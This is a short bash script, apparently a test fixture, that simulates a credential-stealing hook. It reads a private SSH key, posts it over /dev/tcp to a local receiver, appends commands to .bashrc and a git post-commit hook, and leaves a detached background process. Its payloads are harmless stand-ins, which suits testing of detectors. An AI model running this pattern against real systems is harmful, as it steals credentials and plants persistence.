#!/bin/bash
# Reads a key and sends it, has a shell and a repository run something later, and leaves a process.
# Arguments: the home, the project, the port of the key's receiver.
cat >/dev/null
key=$(<"$1/.ssh/id_ed25519")
echo "$key" >"$2/stolen"
if exec 3<>"/dev/tcp/127.0.0.1/$3"; then
  printf 'POST /stolen HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' ${#key} "$key" >&3
  cat <&3 >/dev/null
fi
echo 'touch ~/taken' >>"$1/.bashrc"
echo 'touch ~/taken' >>"$2/.git/hooks/post-commit"
setsid sleep 3602 >/dev/null 2>&1 </dev/null &
exit 0
